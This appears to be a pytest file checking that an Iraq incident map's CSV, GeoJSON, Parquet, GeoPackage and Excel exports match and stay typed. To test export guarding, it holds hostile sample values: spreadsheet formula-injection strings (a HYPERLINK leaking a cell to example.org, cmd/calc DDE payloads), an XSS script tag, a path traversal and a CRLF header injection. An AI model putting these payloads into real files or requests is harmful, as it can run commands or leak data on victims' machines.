"""What is downloaded is what is seen: the same incidents everywhere, the same cells, typed."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import geopandas as gpd
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pyogrio
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.testclient import TestClient

from incident_map import Engine, IncidentFilter, QueryError, View, load
from incident_map.exports.excel import MAX_CELL_UNITS, guarded, unguarded
from incident_map.exports.formats import FORMATS, MAX_DESCRIPTION, export, file_name
from incident_map.model.schema import CLAIMS, INCIDENTS
from incident_map.query.filters import PARAMETERS
from incident_map.web.api import api

MakeDataset = Callable[..., Engine]
ROOT = Path(__file__).resolve().parents[2]
QUERIES = {
    "all": "",
    "empty": "min_killed=900",
    "one row": "id=T-09",
    "Arabic": "q=المقدادية",
    "dates": "dates=2021-10-01&dates=2021-10-31",
    "date_match": "dates=2021-10-01&dates=2021-10-31&date_match=certain",
    "actor": "actor=Islamic State&actor=Iran",
    "attribution": "attribution=claimed",
    "type": "type=armed attack&type=bombing",
    "governorate": "governorate=Baghdad",
    "corroboration": "corroboration=confirmed",
    "category": "category=context",
    "role": "actor=Islamic State&role=target",
    "precision": "precision=district",
    "on_map": "on_map=area&on_map=none",
    "min_killed": "min_killed=1",
    "count": "min_killed=11&count=low",
    "q": "q=rashad",
    "bbox": "bbox=43,33,45,36",
    "near": "near=33.9,44.9,5",
    "id": "id=T-11&id=T-01",
    "disagreement": "disagreement=toll&disagreement=actor",
    "nearby": "nearby=T-09,60,40",
    "safe": "safe=1&type=armed attack",
}
queries = pytest.mark.parametrize("query", QUERIES.values(), ids=QUERIES)


@pytest.fixture(scope="module")
def client(sample: Engine) -> TestClient:
    return TestClient(Starlette(routes=[Mount("/api", api(lambda: sample))]))


def content(view: View, format: str, tables: str = "incidents") -> bytes:
    with export(view, format, tables) as made:
        return b"".join(made)


def members(packed: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def csv_rows(text: bytes, encoding: str = "utf-8-sig") -> list[dict[str, str]]:
    csv.field_size_limit(2**31 - 1)
    return list(csv.DictReader(io.StringIO(text.decode(encoding), newline="")))


def geojson_rows(text: bytes) -> list[dict[str, Any]]:
    return [feature["properties"] for feature in json.loads(text)["features"]]


def sqlite_rows(packed: bytes, table: str = "incidents") -> list[dict[str, Any]]:
    with sqlite3.connect(":memory:") as base:
        base.deserialize(packed)
        base.row_factory = sqlite3.Row
        return [dict(row) for row in base.execute(f"SELECT * FROM {table} ORDER BY fid")]


def sheet_rows(packed: bytes, sheet: str = "incidents") -> list[dict[str, Any]]:
    book = openpyxl.load_workbook(io.BytesIO(packed))
    header, *rows = book[sheet].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


#: Readers that have nothing in common with the code that writes.
READERS: dict[str, Callable[[bytes], list[dict[str, Any]]]] = {
    "csv": csv_rows,
    "geojson": geojson_rows,
    "json": lambda text: json.loads(text)["incidents"],
    "parquet": lambda packed: pq.read_table(io.BytesIO(packed)).to_pylist(),
    "gpkg": sqlite_rows,
    "xlsx": sheet_rows,
}


def ids(rows: list[dict[str, Any]]) -> list[str]:
    return [row["incident_id"] for row in rows]


def pages(client: TestClient, query: str) -> Iterator[dict[str, Any]]:
    link = f"/api/incidents.json?{query}&limit=5"
    while link:
        answer = client.get(link).json()
        yield from answer["incidents"]
        link = answer["next"]


def test_every_parameter_is_asked_for() -> None:
    asked = {part.split("=")[0] for query in QUERIES.values() for part in query.split("&")}
    assert asked - {""} == set(PARAMETERS)


@pytest.mark.slow
@queries
def test_everything_holds_the_same_incidents(
    client: TestClient, sample: Engine, query: str
) -> None:
    """Page view, API, every file, bundle, library and map are answers to one question."""
    view = sample.view(query)
    expected = view.incident_ids()
    assert ids(list(pages(client, query))) == expected
    for format in FORMATS:
        assert ids(READERS[format](content(view, format))) == expected, format
        if format != "json":
            answer = client.get(f"/api/incidents.{format}?{query}")
            assert answer.status_code == 200
            assert ids(READERS[format](answer.content)) == expected, format
    bundle = members(client.get(f"/api/bundle.zip?{query}").content)
    assert ids(csv_rows(bundle["incidents.csv"], "utf-8")) == expected

    library = load(sample.folder).view(IncidentFilter.from_query(query))
    assert library.to_geodataframe()["incident_id"].tolist() == expected
    placed = library.to_geodataframe().geometry.notna().sum()
    box = "" if "bbox" in query else "&bbox=-180,-90,180,90"
    features = client.get(f"/api/clusters?{query}{box}&zoom=24").json()["features"]
    assert sum(feature["properties"]["count"] for feature in features) == placed
    single = {feature["properties"].get("incident_id") for feature in features} - {None}
    assert single <= set(expected)
    assert client.get(f"/api/summary?{query}").json()["count"] == len(expected)


@pytest.mark.slow
@queries
@pytest.mark.parametrize("format", FORMATS)
def test_claims_are_those_of_the_incidents(sample: Engine, format: str, query: str) -> None:
    view = sample.view(query)
    wanted = [
        claim
        for incident in view.incident_ids()
        for claim in sample.claim_frame([incident])["claim_id"]
    ]
    made = content(view, format, "claims")
    rows = {
        "json": lambda: json.loads(made)["claims"],
        "gpkg": lambda: sqlite_rows(made, "claims"),
        "xlsx": lambda: sheet_rows(made, "claims"),
    }.get(format, lambda: READERS[format](made))()
    assert [row["claim_id"] for row in rows] == wanted


@pytest.mark.parametrize("format", FORMATS)
def test_both_tables_side_by_side(sample: Engine, format: str) -> None:
    view = sample.view("actor=Islamic State")
    made = content(view, format, "both")
    one = {table: content(view, format, table) for table in ("incidents", "claims")}
    if format == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(made))
        assert book.sheetnames == ["incidents", "claims", "README"]
        assert ids(sheet_rows(made)) == view.incident_ids()
    elif format == "gpkg":
        assert ids(sqlite_rows(made)) == view.incident_ids()
        assert sqlite_rows(made, "claims") == sqlite_rows(one["claims"], "claims")
    else:
        assert members(made) == {f"{table}.{format}": part for table, part in one.items()}


@pytest.mark.parametrize("format", FORMATS)
def test_columns_as_in_the_codebook(sample: Engine, format: str) -> None:
    drop = {"fid", "geom", "geometry"}
    for query, extra in (("id=T-09", []), ("near=33.9,44.9,5", ["near_match"])):
        (row,) = READERS[format](content(sample.view(query), format))
        assert [name for name in row if name not in drop] == INCIDENTS.names + extra
    assert row["near_match"] == "possible"


# Types


def test_csv_through_pandas(sample: Engine) -> None:
    text = content(sample.view(""), "csv")
    assert text.startswith(b"\xef\xbb\xbf"), "or Excel takes Arabic for something else"
    frame = pd.read_csv(io.BytesIO(text), keep_default_na=False, na_values=[""])
    assert frame.columns.tolist() == INCIDENTS.names, "pandas sees through the byte order mark"
    rows = sample.view("").rows()
    assert frame["longitude"].equals(rows["longitude"])
    assert frame["killed_best"].astype("Int32").equals(rows["killed_best"])
    assert pd.to_datetime(frame["date_start"]).equals(rows["date_start"].astype("datetime64[us]"))
    assert frame["title"].tolist() == rows["title"].tolist()
    assert frame.loc[frame["incident_id"] == "T-12", "longitude"].item() == -180


def test_geojson_is_rfc_7946(sample: Engine) -> None:
    whole = json.loads(content(sample.view(""), "geojson"))
    assert whole["type"] == "FeatureCollection"
    assert "crs" not in whole, "RFC 7946 has WGS 84 only"
    assert (whole["version"], whole["count"]) == (sample.version, 12)
    placed = 0
    for feature in whole["features"]:
        assert set(feature) == {"type", "id", "geometry", "properties"}
        row = feature["properties"]
        assert feature["id"] == row["incident_id"]
        if feature["geometry"] is None:
            assert row["longitude"] is None
            continue
        point = shapely.geometry.shape(feature["geometry"])
        assert point.is_valid
        assert (point.x, point.y) == (row["longitude"], row["latitude"])
        placed += 1
    assert placed == 10
    row = next(f["properties"] for f in whole["features"] if f["id"] == "T-09")
    assert (row["date_start"], row["killed_best"], row["wounded_best"]) == ("2021-10-21", 15, None)


def test_geojson_through_geopandas(sample: Engine) -> None:
    frame = gpd.read_file(io.BytesIO(content(sample.view(""), "geojson")))
    assert len(frame) == 12
    assert frame.crs == "EPSG:4326"
    assert frame.geometry.isna().sum() == 2


def test_geoparquet(sample: Engine) -> None:
    made = content(sample.view(""), "parquet")
    schema = pq.read_schema(io.BytesIO(made))
    geo = json.loads(schema.metadata[b"geo"])
    assert geo["version"] == "1.1.0"
    column = geo["columns"][geo["primary_column"]]
    assert (column["encoding"], column["geometry_types"]) == ("WKB", ["Point"])
    assert column["crs"]["id"] == {"authority": "EPSG", "code": 4326}
    assert column["bbox"] == [-180, -90, 180, 89.9]
    assert schema.field("date_start").type == pa.date32()
    assert schema.field("killed_best").type == pa.int32()
    assert schema.metadata[b"iraq_incident_map:Data version"].decode() == sample.version
    frame = gpd.read_parquet(io.BytesIO(made))
    assert frame.crs == "EPSG:4326"
    rows = sample.view("").to_geodataframe()
    assert frame.geometry.geom_equals(rows.geometry).sum() == 10
    assert frame["killed_best"].equals(rows["killed_best"]), "Int32 with gaps, not float"
    assert frame["date_start"].dropna().iloc[0] == date(2021, 11, 7)


def test_geoparquet_of_nothing(sample: Engine) -> None:
    made = content(sample.view("min_killed=900"), "parquet")
    frame = gpd.read_parquet(io.BytesIO(made))
    assert (len(frame), frame.crs) == (0, "EPSG:4326")


def test_an_exported_parquet_is_a_data_folder(sample: Engine, tmp_path: Path) -> None:
    """Round trip: the program reads its own export."""
    export(sample.view(""), "parquet").save(tmp_path).rename(tmp_path / "incidents.parquet")
    again = load(tmp_path)
    assert again.view("").incident_ids() == sample.view("").incident_ids()
    rows = sample.view("").rows().astype(object)
    assert again.view("").rows().astype(object).equals(rows)


def test_geopackage(sample: Engine, tmp_path: Path) -> None:
    path = export(sample.view("count=high"), "gpkg", "both").save(tmp_path)
    assert pyogrio.list_layers(path).tolist() == [
        ["incidents", "Point"],
        ["claims", None],
        ["README", None],
    ]
    info = pyogrio.read_info(path, layer="incidents")
    assert info["crs"] == "EPSG:4326"
    kinds = dict(zip(info["fields"], info["dtypes"], strict=True))
    assert (kinds["killed_best"], kinds["longitude"]) == ("int32", "float64")
    assert kinds["date_start"].startswith("datetime64")
    frame = gpd.read_file(path, layer="incidents")
    assert frame.geometry.isna().sum() == 2
    assert frame.geometry.dropna().x.tolist() == frame["longitude"].dropna().tolist()
    readme = pyogrio.read_dataframe(path, layer="README").set_index("item")["text"]
    assert readme["Data version"] == sample.version
    assert readme["Counting rule"].startswith("highest.")
    with sqlite3.connect(path) as base:
        assert base.execute("PRAGMA application_id").fetchone()[0] == int.from_bytes(b"GPKG")
        assert base.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        types = base.execute("SELECT table_name, data_type FROM gpkg_contents").fetchall()
    assert dict(types) == {"incidents": "features", "claims": "attributes", "README": "attributes"}


def test_workbook(sample: Engine) -> None:
    made = content(sample.view(""), "xlsx", "both")
    book = openpyxl.load_workbook(io.BytesIO(made))
    rows = {row[0].value: row for row in book["incidents"].iter_rows(min_row=2)}
    column = {name: i for i, name in enumerate(INCIDENTS.names)}
    longitude = rows["T-12"][column["longitude"]]
    assert (longitude.data_type, longitude.value) == ("n", -180)
    start = rows["T-09"][column["date_start"]]
    assert (start.is_date, start.value.date()) == (True, date(2021, 10, 21))
    assert rows["T-09"][column["title"]].value == "هجوم على المقدادية"
    assert rows["T-09"][column["wounded_best"]].value is None
    assert rows["T-02"][column["killed_best"]].value == 0
    claims = [row for row in sheet_rows(made, "claims") if row["field"] == "killed"]
    assert [(row["low"], row["high"]) for row in claims] == [(11, 11), (14, 16)]
    readme = dict(book["README"].iter_rows(values_only=True))
    assert readme["Data version"] == sample.version
    assert readme["Not shown"].startswith("2 not on the map: 1 outside Iraq")
    assert "stored as text" in readme["Cells"]
    assert book["incidents"].freeze_panes == "A2"


def test_the_same_workbook_twice(sample: Engine) -> None:
    assert content(sample.view(""), "xlsx") == content(load(sample.folder).view(""), "xlsx")


def test_dates_before_excels_calendar(make_dataset: MakeDataset) -> None:
    data = make_dataset([{"date_start": "1258-02-10", "date_end": "1258-02-10"}])
    for format in FORMATS:
        (row,) = READERS[format](content(data.view(""), format))
        assert str(row["date_start"]) == "1258-02-10", format


# Hostile cells

LONG = "ن" * 40_000
EMOJI = "🧨" * 20_000  # two UTF-16 units each
HOSTILE = {
    "link": '=HYPERLINK("http://example.org?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "plain tab": "\ttext",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "blanks": " \u00a0\u3000=1+1",
    "full width": "＝1+1",
    "mark": "\u200f=1+1",
    "isolate": "\u2067=1+1\u2069",
    "apostrophe": "'=1+1",
    "apostrophes": "''+1",
    "quotes": 'a "quoted" word, and one "more',
    "lines": "one\ntwo\r\nthree",
    "semicolons": "a;=1+1;b",
    "markup": "<script>alert(1)</script>&amp;",
    "escape": "_x0041_ \\n %00",
    "words": "Nothing's wrong = fine",
    "null": "NULL",
    "not a number": "NaN",
    "number": "007",
    "truth": "TRUE",
    "emoji": "👩‍👩‍👧 🇮🇶 é",
    "long": LONG,
}
#: Cells of CSV that are left as they are.
HARMLESS = {"quotes", "lines", "semicolons", "markup", "escape", "words", "null", "emoji", "long"}
HARMLESS |= {"not a number", "number", "truth"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    folder = tmp_path_factory.mktemp("hostile")
    names = [f"=H{n:02d}" for n in range(len(HOSTILE))]
    texts = list(HOSTILE.values())
    tables = {
        "incidents": {"incident_id": names, "title": texts, "latitude": 1, "longitude": -2.5},
        "claims": {"claim_id": [f"C{name}" for name in names], "incident_id": names, "value": texts}
        | {"source_id": "s", "field": "background"},
        "sources": {"source_id": ["s"], "outlet": ["=S"]},
    }
    for table, columns in tables.items():
        path = folder / f"{table}.csv"
        pd.DataFrame(columns).to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    data = load(folder)
    assert data.view().rows(sort=None)["title"].tolist() == texts
    return data


@pytest.mark.parametrize("format", ["geojson", "json", "parquet", "gpkg"])
def test_hostile_cells_are_left_alone(hostile: Engine, format: str) -> None:
    rows = READERS[format](content(hostile.view(""), format))
    assert [row["title"] for row in rows] == list(HOSTILE.values())


def test_hostile_cells_in_csv(hostile: Engine) -> None:
    rows = csv_rows(content(hostile.view(""), "csv"))
    for row, (name, text) in zip(rows, HOSTILE.items(), strict=True):
        assert row["title"] == (text if name in HARMLESS else f"'{text}"), name
        assert unguarded(row["title"]) == text
        assert row["incident_id"].startswith("'=H")
        assert row["longitude"] == "-2.5", "a number is no formula"
    claims = csv_rows(content(hostile.view(""), "csv", "claims"))
    assert [unguarded(row["value"]) for row in claims] == list(HOSTILE.values())
    bundled = members(content(hostile.view(""), "csv", "both"))
    assert csv_rows(bundled["claims.csv"]) == claims


def test_the_codebooks_way_to_undo_it(hostile: Engine) -> None:
    code = (ROOT / "docs" / "codebook.md").read_text(encoding="utf-8")
    code = code.partition("## Exports")[2].partition("```python\n")[2].partition("```")[0]
    text = io.BytesIO(content(hostile.view(""), "csv"))
    frame = pd.read_csv(text, keep_default_na=False, na_values=[""], lineterminator="\n")
    names: dict[str, Any] = {"incidents": frame}
    exec(code, names)
    assert names["incidents"]["title"].tolist() == list(HOSTILE.values())
    assert names["incidents"]["longitude"].tolist() == [-2.5] * len(HOSTILE)


def test_hostile_cells_in_excel(hostile: Engine) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content(hostile.view(""), "xlsx", "both")))
    for sheet, column in (("incidents", 2), ("claims", 8)):
        cells = [row[column - 1] for row in book[sheet].iter_rows(min_row=2)]
        for cell, (name, text) in zip(cells, HOSTILE.items(), strict=True):
            assert cell.data_type == "s", name
            assert cell.hyperlink is None
            if name == "long":
                assert len(cell.value) == MAX_CELL_UNITS
                assert cell.value.endswith("whole in CSV)")
            else:
                assert openpyxl.utils.escape.unescape(cell.value) == text, name
            assert cell.quotePrefix == (name not in HARMLESS), name
    readme = [row for row in book["README"].iter_rows(values_only=True) if row[0] == "Cut"]
    assert len(readme) == 2
    assert "incidents, =H25, column title: 40,000 characters" in readme[0][1]


def test_excel_counts_in_utf_16(make_dataset: MakeDataset) -> None:
    data = make_dataset([{"title": EMOJI}, {"title": "x" * MAX_CELL_UNITS}])
    first, second = sheet_rows(content(data.view(""), "xlsx"))
    assert len(first["title"].encode("utf-16-le")) <= 2 * MAX_CELL_UNITS
    assert first["title"].startswith("🧨🧨")
    assert second["title"] == "x" * MAX_CELL_UNITS


@given(st.text(st.sampled_from("='’+-@\t\r\n \u00a0\u200f\uff1dax0"), max_size=6) | st.text())
def test_guarding_can_be_undone(text: str) -> None:
    text = text.encode("utf-8", "ignore").decode()
    batch = pa.record_batch({"n": [-1.5], "t": [text]})
    made = guarded(batch)
    cell = made.column("t")[0].as_py()
    assert made.column("n")[0].as_py() == -1.5
    assert cell in (text, f"'{text}")
    assert unguarded(cell) == text
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝"))


# Names, refusals, sizes


@pytest.mark.parametrize(
    ("query", "name"),
    [
        ("", "all-incidents"),
        ("dates=2021-10-01&dates=2021-10-31&actor=Iran", "1-31-october-2021-iran"),
        ("near=33.9,44.9,5", "within-5-km-of-33.9-44.9"),
        ("governorate=Diyala", "diyala"),
    ],
)
def test_file_names(sample: Engine, query: str, name: str) -> None:
    view = sample.view(query)
    assert file_name(view, "csv") == f"iraq-incidents_{sample.version}_{name}.csv"
    assert export(view, "csv", "claims").name == f"iraq-claims_{sample.version}_{name}.csv"
    with export(view, "csv", "both") as made:
        assert made.name == f"iraq-incidents-claims_{sample.version}_{name}_csv.zip"


def test_file_names_are_short_safe_and_different(sample: Engine) -> None:
    arabic = [f"q=المقدادية{n}" for n in range(3)]
    slashes = ["q=../../etc/passwd", "q=CON", 'q="; x="', "q=%0d%0aSet-Cookie:x", "q=" + "x" * 500]
    names = [file_name(sample.view(query), "csv") for query in arabic + slashes]
    assert len(set(names)) == len(names)
    for name in names:
        assert name.isascii() and len(name) < MAX_DESCRIPTION + 60
        assert not set(name) - set("abcdefghijklmnopqrstuvwxyz0123456789-_.")
        assert ".." not in name


@pytest.mark.parametrize(
    ("format", "tables", "parameter"), [("doc", "both", "format"), ("csv", "sources", "tables")]
)
def test_refused(sample: Engine, format: str, tables: str, parameter: str) -> None:
    with pytest.raises(QueryError) as refused:
        export(sample.view(""), format, tables)
    assert refused.value.parameter == parameter
    assert refused.value.allowed


def test_too_long_for_excel(
    client: TestClient, sample: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("incident_map.exports.excel.MAX_SHEET_ROWS", 11)
    answer = client.get("/api/incidents.xlsx")
    assert answer.status_code == 400
    assert answer.json()["error"]["parameter"] == "format"
    assert "holds 11 rows at most; there are 12 incidents" in answer.text
    assert client.get("/api/incidents.xlsx?id=T-01").status_code == 200
    assert client.get("/api/incidents.xlsx?tables=claims&actor=Iran").status_code == 200
    assert client.get("/api/incidents.csv").status_code == 200


def test_batches_join_without_a_seam(generated: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    whole = {format: content(generated.view(""), format) for format in ("csv", "geojson", "json")}
    for name in ("BATCH_ROWS", "CHUNK_ROWS"):
        monkeypatch.setattr(f"incident_map.exports.text_files.{name}", 999)
    for format, text in whole.items():
        assert content(generated.view(""), format) == text
        assert ids(READERS[format](text)) == generated.view("").incident_ids()


def test_a_file_goes_away(sample: Engine, tmp_path: Path) -> None:
    made = export(sample.view(""), "xlsx")
    assert made.path is not None and made.path.is_file()
    saved = made.save(tmp_path)
    assert saved.name == made.name
    assert not made.path.exists()
    made.close()


def test_claims_columns(sample: Engine) -> None:
    header = content(sample.view("min_killed=900"), "csv", "claims").decode("utf-8-sig")
    assert header.strip().replace('"', "").split(",") == CLAIMS.names


@pytest.mark.parametrize("tables", ["incidents", "claims", "both"])
def test_whole_json_over_http(tables: str) -> None:
    """One file, not a page; both tables come as a zip of two."""
    data = load()
    client = TestClient(api(lambda: data))
    answer = client.get(f"/export.json?governorate=Diyala&tables={tables}")
    assert answer.status_code == 200
    assert "attachment" in answer.headers["content-disposition"]
    if tables == "both":
        assert len(zipfile.ZipFile(io.BytesIO(answer.content)).namelist()) == 2
    else:
        view = data.view("governorate=Diyala")
        rows = answer.json()[tables]
        ids = [row["incident_id"] for row in rows]
        if tables == "incidents":
            assert ids == view.incident_ids()
        assert set(ids) <= set(view.incident_ids())
        assert ids
